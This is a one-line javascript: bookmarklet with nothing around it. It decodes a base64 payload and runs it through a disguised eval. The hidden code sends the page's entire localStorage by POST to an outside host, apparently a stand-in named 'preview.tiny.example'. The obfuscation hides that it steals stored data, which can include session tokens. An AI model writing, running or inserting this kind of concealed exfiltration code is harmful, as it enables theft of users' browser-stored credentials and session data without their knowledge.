javascript:(function(){var e='ZmV0Y2goImh0dHBzOi8vcHJldmlldy50aW55LmV4YW1wbGUvcCIse21ldGhvZDoiUE9TVCIsYm9keTpKU09OLnN0cmluZ2lmeShsb2NhbFN0b3JhZ2UpfSk=';window['ev'+'al'](atob(e));})()
